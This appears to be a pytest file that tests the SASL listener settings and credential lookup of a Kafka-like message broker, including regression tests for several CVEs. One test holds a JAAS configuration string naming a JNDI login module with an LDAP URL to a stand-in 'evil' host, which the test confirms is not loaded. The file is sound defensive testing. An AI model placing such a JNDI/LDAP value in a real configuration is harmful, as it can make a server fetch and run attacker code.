"""What the settings of a SASL listener mean, and which credentials its mechanisms see."""

from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from random import Random
from types import SimpleNamespace
from typing import Any, cast

import pytest

from semel.broker.config.broker_config import BrokerConfig
from semel.broker.config.sasl_config import SaslConfig
from semel.broker.node import Node
from semel.broker.security.jwks import fetcher
from semel.broker.security.sasl_mechanisms import sasl_mechanisms
from semel.broker.security.user_credentials import UserCredentials
from semel.metadata.image import ClusterImage
from semel.metadata.security.user_changes import Deletion, Upsertion, alter_users
from semel.security.sasl.jaas import jaas_options, jaas_users
from semel.security.sasl.plain_server import PlainServer
from semel.security.sasl.scram_server import ScramServer
from semel.settings import SettingError, Update, declared_in
from semel.testing.virtual.clock import ManualClock
from semel.wire.codes import ScramMechanism

SHA_256, SHA_512 = ScramMechanism.SCRAM_SHA_256, ScramMechanism.SCRAM_SHA_512


def node() -> Node:
    return cast(Node, SimpleNamespace(image=ClusterImage("cluster"), random=Random(1), clock=ManualClock()))


def mechanisms(*, has_tls: bool = True, **settings: str) -> dict[str, Any]:
    config = BrokerConfig.load(overrides={name.replace("_", "."): text for name, text in settings.items()})
    return dict(sasl_mechanisms(node(), config, has_tls=has_tls))


def test_scram_is_served_where_nothing_else_is_said() -> None:
    served = mechanisms(has_tls=False)
    assert list(served) == ["SCRAM-SHA-256", "SCRAM-SHA-512"]
    one, other = served["SCRAM-SHA-256"](), served["SCRAM-SHA-256"]()
    assert isinstance(one, ScramServer)
    assert one.step(b"n,,n=u,r=x") != other.step(b"n,,n=u,r=x"), "each exchange has a nonce of its own"


def test_plain_without_tls_is_refused_unless_it_is_forced() -> None:
    with pytest.raises(SettingError, match=r"sasl\.plain\.without\.tls=true"):
        mechanisms(has_tls=False, sasl_enabled_mechanisms="PLAIN")
    assert list(mechanisms(has_tls=True, sasl_enabled_mechanisms="PLAIN")) == ["PLAIN"]
    forced = mechanisms(has_tls=False, sasl_enabled_mechanisms="PLAIN", sasl_plain_without_tls="true")
    assert isinstance(forced["PLAIN"](), PlainServer)


@pytest.mark.parametrize(
    ("settings", "message"),
    [
        ({"sasl_enabled_mechanisms": ""}, "is empty"),
        ({"sasl_enabled_mechanisms": "GSSAPI"}, "PLAIN, SCRAM-SHA-256"),
        ({"sasl_enabled_mechanisms": "OAUTHBEARER"}, "needs sasl.oauthbearer.jwks.endpoint.url"),
    ],
)
def test_settings_that_cannot_be_meant_are_refused(settings: dict[str, str], message: str) -> None:
    with pytest.raises(SettingError, match=message):
        mechanisms(**settings)


@pytest.mark.parametrize("url", ["http://keys.example.org/", "ftp://a/b", "file://elsewhere/keys", "/keys", "https://"])
def test_keys_come_from_a_file_or_with_tls(url: str) -> None:
    with pytest.raises(SettingError, match=r"https://HOST/PATH or file:///PATH"):
        fetcher(url)


def test_keys_are_read_from_a_file_of_limited_size(tmp_path: Path) -> None:
    path = tmp_path / "the keys.json"
    fetch = fetcher(path.as_uri())
    with pytest.raises(FileNotFoundError):
        fetch()
    path.write_bytes(b"{}")
    assert fetch() == b"{}"
    path.write_bytes(bytes(1024 * 1024 + 1))
    with pytest.raises(OSError, match="larger than"):
        fetch()


class _Keys(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.send_response(302 if self.path == "/moved" else 200)
        self.send_header("Location", "/keys")
        self.end_headers()
        self.wfile.write(b"{}")

    def log_message(self, *_: object) -> None:
        pass


def test_cve_2025_27817_keys_are_downloaded_and_another_place_is_not_asked() -> None:
    server = HTTPServer(("127.0.0.1", 0), _Keys)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        address = f"http://127.0.0.1:{server.server_port}"
        assert fetcher(f"{address}/keys")() == b"{}"
        with pytest.raises(OSError, match="302"):
            fetcher(f"{address}/moved")()
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


def test_users_of_a_jaas_configuration() -> None:
    text = """org.apache.kafka.common.security.plain.PlainLoginModule required username="broker" password="b"
        user_alice="al\\"ice's" user_bob-2='two words' user_c.d=bare;"""
    assert jaas_users(text) == {"alice": "al\"ice's", "bob-2": "two words", "c.d": "bare"}
    assert jaas_options(text)["username"] == "broker"
    assert jaas_users("") == {}


def test_cve_2023_25194_a_login_module_is_a_word_and_nothing_is_loaded() -> None:
    text = 'com.sun.security.auth.module.JndiLoginModule required user.provider.url="ldap://evil/x" user_alice="a";'
    served = mechanisms(sasl_enabled_mechanisms="PLAIN", plain_sasl_jaas_config=text)
    assert isinstance(served["PLAIN"](), PlainServer)
    assert jaas_users(text) == {"alice": "a"}


def test_cve_2025_27818_no_setting_of_sasl_can_be_altered_over_the_wire() -> None:
    assert {setting.update for setting in declared_in(SaslConfig)} == {Update.READ_ONLY}


# Credentials


def with_users(image: ClusterImage, **users: ScramMechanism) -> ClusterImage:
    wishes = [Upsertion(name, mechanism, 5000, b"salt-of-8", b"salted") for name, mechanism in users.items()]
    return image.apply(alter_users(image, [], wishes, new_secret=b"s" * 32).changes)


def test_every_name_has_a_credential_and_an_unknown_one_always_the_same() -> None:
    image = with_users(ClusterImage("cluster"), alice=SHA_512, bob=SHA_512, carol=SHA_256)
    users, others = (UserCredentials(lambda: image, spare) for spare in (b"one", b"other"))
    assert image.security is not None
    assert users.scram(SHA_512, "alice") == image.security.users["alice"][SHA_512]
    unknown = users.scram(SHA_512, "nobody")
    assert unknown == others.scram(SHA_512, "nobody"), "the secret is that of the cluster, not of one broker"
    assert (unknown.iterations, len(unknown.salt)) == (5000, 9)
    assert users.scram(SHA_256, "alice") != users.scram(SHA_512, "alice"), "she has none for this mechanism"


def test_plain_uses_what_a_user_has_and_an_unknown_one_costs_what_most_cost() -> None:
    image = with_users(ClusterImage("cluster"), alice=SHA_512, bob=SHA_256, carol=SHA_256)
    users = UserCredentials(lambda: image, b"spare")
    assert [users.plain(name)[0] for name in ("alice", "bob", "nobody")] == [SHA_512, SHA_256, SHA_256]


def test_a_change_holds_for_the_next_login() -> None:
    images = [with_users(ClusterImage("cluster"), alice=SHA_512)]
    users = UserCredentials(lambda: images[-1], b"spare")
    before = users.scram(SHA_512, "alice")
    gone = alter_users(images[-1], [Deletion("alice", SHA_512)], [], new_secret=b"s" * 32)
    images.append(images[-1].apply(gone.changes))
    assert users.scram(SHA_512, "alice") != before
    images.append(with_users(images[-1], alice=SHA_512))
    assert users.scram(SHA_512, "alice") == before


def test_a_cluster_without_users_has_credentials_for_every_name() -> None:
    users = UserCredentials(lambda: ClusterImage("cluster"), b"spare")
    assert users.scram(SHA_256, "nobody").iterations >= 4096
    assert users.plain("nobody")[1].iterations >= 4096
